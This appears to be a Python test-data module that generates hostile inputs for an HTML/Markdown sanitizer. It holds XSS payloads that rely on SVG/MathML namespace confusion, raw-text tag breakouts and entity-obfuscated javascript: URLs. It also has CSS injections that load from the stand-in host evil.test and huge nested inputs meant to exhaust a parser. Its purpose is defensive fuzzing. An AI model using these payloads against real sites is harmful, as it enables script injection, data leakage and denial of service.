"""More hostile strings: parsers led into each other's namespaces, written-out signs, foreign schemes, references, tables and lists, sheets of style."""

from itertools import product

_RUN = ["<img src=x onerror=pwned(1)>", "<script>pwned(1)</script>", "<svg onload=pwned(1)>", "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>"]
# Where HTML begins again inside a foreign namespace, where text begins inside HTML, and what closes more than it opened.
_INSIDE = ["<svg><{p}>", "<math><{p}>", "<svg><desc><{p}>", "<math><mtext><{p}>", "<math><annotation-xml encoding='text/html'><{p}>", "<svg><foreignObject><{p}>",
           "<math><mtext><mglyph><{p}>", "<table><{p}>", "<select><{p}>", "<form><math><mtext></form><form><mglyph><{p}>", "<svg></p><{p}>", "<math></br><{p}>"]  # fmt: skip
_RAW = ["style", "title", "textarea", "noscript", "xmp", "noembed", "noframes", "iframe", "plaintext", "template", "script", "![CDATA[", "!--", "mi", "option", "malignmark"]
_OUT = ["<a title=\"</{n}>{x}\">", "</{n}>{x}", "--&gt;{x}", "]]>{x}", "<a id=\"</{n}>{x}\">x</a></{n}>"]

_WORD = ["javascript", "vbscript", "data", "JAVASCRIPT", "jAvAsCrIpT"]
_COLON = [":", "&colon;", "&#58;", "&#x3a;", "&#0000058", "&#x00003A", "%3a", "：", "&amp;colon;", "\\:", "&#58", "\u0589"]
_LETTER = ["{w}{c}", "&#{o};{rest}{c}", "&#x{h};{rest}{c}", "{a}&#10;{b}{c}", "{a}&Tab;{b}{c}", "{a}\t{b}{c}", "&#1;{w}{c}", " {w}{c}", "&nbsp;{w}{c}", "{a}&#0;{b}{c}", "{a}&ZeroWidthSpace;{b}{c}"]
_PLACE = ["[x]({u}pwned(1))", "<{u}pwned(1)>", "[x]: {u}pwned(1)\n[x]", "<a href='{u}pwned(1)'>x</a>", "[x](<{u}pwned(1)> 'a')"]

_STYLES = ["<div style=\"{s}\">x</div>", "<style>{s}</style>", "<style>*{{{s}}}</style>", "<p style='{s}'>", "<link rel=stylesheet href='data:text/css,*{{{s}}}'>", "<svg><style>*{{{s}}}</style></svg>",
           "<table><td style={s}>x", "<a href=http://a.test style=\"{s}\">x</a>", "x {{: style=\"{s}\" }}", "# x {{: style=\"{s}\" onclick=pwned(1) }}"]  # fmt: skip
_SHEETS = ["background:url(//evil.test/x)", "background:url('javascript:pwned(1)')", "width:expression(pwned(1))", "-moz-binding:url(//evil.test/x#y)", "list-style:url(//evil.test/x)",
           "behavior:url(//evil.test/x)", "@import url(//evil.test/x);", "content:url(//evil.test/x)", "position:fixed;inset:0;z-index:9999", "animation:x;}}@keyframes x{{}}", "b\\61ckground:u\\72l(//evil.test/x)",
           "cursor:url(//evil.test/x),auto", "src:url(//evil.test/x)", "--x:url(//evil.test/x);background:var(--x)", "background:image-set('//evil.test/x' 1x)"]  # fmt: skip

_SHAPES = ["[^1]\n\n[^1]: {x}\n    {x}", "[^{x}]\n\n[^{x}]: y", "| {x} | b |\n|:--|--:|\n| a | {x} |", "{x} | b\n--- | ---\n{x}", "term\n: {x}", "*[HTML]: {x}\n\nHTML", "- [ ] {x}\n- [x] {x}",
           "1. - > {x}", "> > - 1) {x}", "[a\n{x}][r\n]\n\n[r ]: http://a.test", "[a][r]\n\n[r]:\nhttp://a.test\n'{x}'", "[a][\nr]\n\n[R]: <http://a.test\n> {x}", "[{x}]: http://a.test\n\n[{x}]", "[a]({x})",
           "[a](http://a.test\n'{x}')", "![{x}][r]\n\n[r]: http://a.test/{x}", "<http://a.test/?{x}>", "<a@a.test?{x}>", "www.a.test/{x}", "ftp://a.test/{x}", "http://a.test/?a=&quot;{x}", "~~~{x}\na\n~~~",
           "```x {x}\n```\n{x}", "{x}\n===", "{x}\n---", "***{x}***", "`` ` {x}", "\\`{x}`", "&lt;{x}", "&#60;{x}", "<{x}", "<!--{x}-->", "<!-- --!>{x}", "<?php {x} ?>", "<!X {x}>", "<![CDATA[{x}]]>", "<div markdown=1>{x}</div>",
           "<div markdown='span' onclick=pwned(1)>{x}</div>", "[TOC]\n# {x}", "[[{x}]]", "{{{{ {x} }}}}", "$${x}$$", "\\({x}\\)", ":{x}:", "@{x}", "==\n{x}==", "^{x}^ ~{x}~", "{x}{{#id .c onclick=pwned(1)}}",
           "\x1a{x}", "\x02{x}\x03", "STX{x}ETX", "\x02amp\x03{x}", "wzxhzdk:0 {x}", "\x02wzxhzdk:1\x03\n\n{x}"]  # fmt: skip
_WORDS = [*_RUN, "\" onmouseover=\"pwned(1)", "' onfocus='pwned(1)' autofocus tabindex='1", "javascript:pwned(1)", "><img src=x onerror=pwned(1)>"]


def _nested() -> list[str]:
    return [
        inside.format(p=raw) + out.format(n=raw, x=run)
        for number, (inside, raw, out) in enumerate(product(_INSIDE, _RAW, _OUT)) for run in (_RUN[number % len(_RUN)],)
    ]


def _addresses() -> list[str]:
    found = []
    for number, (word, colon, letter) in enumerate(product(_WORD, _COLON, _LETTER)):
        parts = {"w": word, "c": colon, "o": ord(word[0]), "h": f"{ord(word[0]):x}", "rest": word[1:], "a": word[:4], "b": word[4:]}
        found.append(_PLACE[number % len(_PLACE)].format(u=letter.format(**parts) + ("text/html,<script>parent." if word == "data" else "")))
    return found


def _others() -> list[str]:
    return [style.format(s=sheet) for style, sheet in product(_STYLES, _SHEETS)] + [shape.format(x=words) for shape, words in product(_SHAPES, _WORDS)]


CONFUSIONS = list(dict.fromkeys([*_nested(), *_addresses(), *_others()]))

BOMBS = (
    ">" * 10_000 + " x", "> " * 5_000 + "x", "".join(f"{'  ' * depth}- x\n" for depth in range(400)), "".join(f"{'    ' * (depth % 90)}1. x\n" for depth in range(2_000)), "- " * 8_000 + "x",
    "a" * 1_000_000, "[" * 50_000, "](" * 30_000, "*a " * 60_000, "_" * 100_000, "`" * 99_999, "![" * 40_000 + "x", "<" * 100_000, "&" * 100_000, "|a" * 40_000 + "\n" + "|-" * 40_000, "<a " * 40_000,
    "[a][b]\n" * 20_000 + "[b]: http://a.test\n" * 20_000, "http://" * 40_000, "a@" * 60_000, "\\" * 100_000, "<!--" * 40_000, "\n" * 200_000, "x\n    " * 40_000, "# " * 50_000, "[x]: <" * 20_000,
    "* * * " * 30_000, "~" * 99_999, "(" * 100_000 + "[a](", "@a" * 50_000, "\u0300" * 100_000, "\u202e" * 50_000 + "x", "{: " * 40_000, "***a***" * 20_000, ("> " * 60 + "- " * 60 + "x\n") * 300,
)  # fmt: skip
